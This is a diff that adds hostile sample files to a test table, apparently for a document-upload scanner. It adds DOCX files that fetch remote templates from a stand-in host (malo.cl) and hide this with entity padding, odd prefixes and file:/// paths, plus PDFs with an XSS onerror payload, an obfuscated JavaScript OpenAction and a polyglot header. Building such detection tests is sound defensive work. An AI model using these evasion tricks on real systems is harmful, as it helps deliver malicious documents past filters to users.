@@ -259,6 +259,42 @@ export const dangerous: Record<string, { bytes: Buffer; name: string }> = {
     })(),
     name: 'a.docx',
   },
+  'a DOCX with a template elsewhere, its kind behind many zeros': {
+    bytes: docxRels(relation('attached&#x00000054;emplate', 'https://malo.cl/a.dotm')),
+    name: 'a.docx',
+  },
+  'a DOCX with a template elsewhere, its mode behind many zeros': {
+    bytes: docxRels(relation('attachedTemplate', 'https://malo.cl/a', 'Exter&#0000000110;al')),
+    name: 'a.docx',
+  },
+  'a DOCX with a template elsewhere, behind what looks like the end of a tag': {
+    bytes: docxRels(
+      `<Relationship Id="r" Type="${at}/attachedTemplate" Target="http://malo.cl/&#34;/&#62;" TargetMode="External"/>`,
+    ),
+    name: 'a.docx',
+  },
+  'a DOCX with a template elsewhere, under a prefix of other letters': {
+    bytes: docx({
+      'word/_rels/settings.xml.rels': `<ñ:Relationships xmlns:ñ="http://schemas.openxmlformats.org/package/2006/relationships"><ñ:Relationship Id="r" Type="${at}/attachedTemplate" Target="https://malo.cl/a" TargetMode="External"/></ñ:Relationships>`,
+    }),
+    name: 'a.docx',
+  },
+  'a DOCX whose macros have another name and many zeros': {
+    bytes: zip({
+      '[Content_Types].xml':
+        '<Types><Override ContentType="application/vnd.ms-word.document.&#x0000006d;acroEnabled.main+xml"/></Types>',
+      'word/document.xml': '',
+    }),
+    name: 'a.docx',
+  },
+  'a DOCX with a template that leaves the own disk': {
+    bytes: docxRels(relation('attachedTemplate', 'file:///C:\\..\\..\\\\malo.cl\\a.dotm')),
+    name: 'a.docx',
+  },
+  'a DOCX with a template of a server that looks like a disk': {
+    bytes: docxRels(relation('attachedTemplate', 'file:///z://malo.cl/a.dotm')),
+    name: 'a.docx',
+  },
   'a DOCX with a linked object': {
     bytes: docxRels(relation('oleObject', 'https://malo.cl/a.rtf')),
     name: 'a.docx',
@@ -273,6 +309,18 @@ export const dangerous: Record<string, { bytes: Buffer; name: string }> = {
   },
   'a PDF that is a page as well': {
     bytes: pdf('', '/X(<html><script>1</script>)'),
+    name: 'a.pdf',
+  },
+  'a PDF behind a tag of music': {
+    bytes: pdf(`ID3\x03\0\0\0\0\0\x40${'x'.repeat(64)}`),
+    name: 'a.pdf',
+  },
+  'a PDF that is a page by another tag': {
+    bytes: pdf('', '/X(<img src=x onerror=alert\\(1\\)>)'),
+    name: 'a.pdf',
+  },
+  'a PDF that runs a script by another spelling': {
+    bytes: pdf('', '/OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>'),
     name: 'a.pdf',
   },
   'a PDF behind a byte-order mark': { bytes: pdf('\ufeff'), name: 'a.pdf' },
